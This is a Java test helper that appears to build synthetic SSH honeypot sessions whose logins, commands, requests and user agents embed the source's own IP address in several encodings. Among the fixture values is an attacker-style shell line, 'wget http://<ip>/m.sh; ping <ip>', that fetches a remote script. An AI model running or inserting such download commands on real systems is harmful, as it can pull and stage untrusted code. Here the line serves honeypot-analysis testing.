package yochi.node.habit;

import java.math.BigInteger;
import java.net.InetAddress;
import java.net.UnknownHostException;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import yochi.core.model.Country;
import yochi.core.model.Service;
import yochi.node.observation.HoneypotSession;
import yochi.node.observation.Origin;
import yochi.node.observation.Said;
import yochi.node.observation.Sensor;

/** Sessions at tcp/22 of sources that name their own address in all that they say. */
public final class SaidSessions {
    private SaidSessions() {}

    public static HoneypotSession of(byte[] source, Instant at, Said said) {
        try {
            return new HoneypotSession(
                    new Origin(Sensor.of("pot", new Country("SG")), "test"),
                    "s",
                    at,
                    at.plusSeconds(5),
                    InetAddress.getByAddress(source),
                    Service.tcp(22),
                    HoneypotSession.Logins.NONE,
                    HoneypotSession.Requests.NONE,
                    0,
                    0,
                    List.of(),
                    false,
                    List.of(),
                    true,
                    List.of(),
                    said);
        } catch (UnknownHostException e) {
            throw new IllegalArgumentException(e);
        }
    }

    /** The same words of whichever source, but for its address as host, number, digits and text. */
    public static HoneypotSession naming(byte[] source, Instant at) {
        try {
            String plain = InetAddress.getByAddress(source).getHostAddress();
            String hex = HexFormat.of().formatHex(source);
            String decimal = new BigInteger(1, source).toString();
            return of(source, at, new Said(
                    List.of("root/" + hex, "admin/" + plain),
                    List.of("wget http://" + (source.length == 4 ? plain : "[" + plain + "]") + "/m.sh; ping " + plain,
                            "echo " + decimal + " " + hex),
                    List.of("/x?" + hex + "=" + plain, "http://" + decimal + "/"),
                    List.of("agent " + plain, "agent " + decimal)));
        } catch (UnknownHostException e) {
            throw new IllegalArgumentException(e);
        }
    }
}
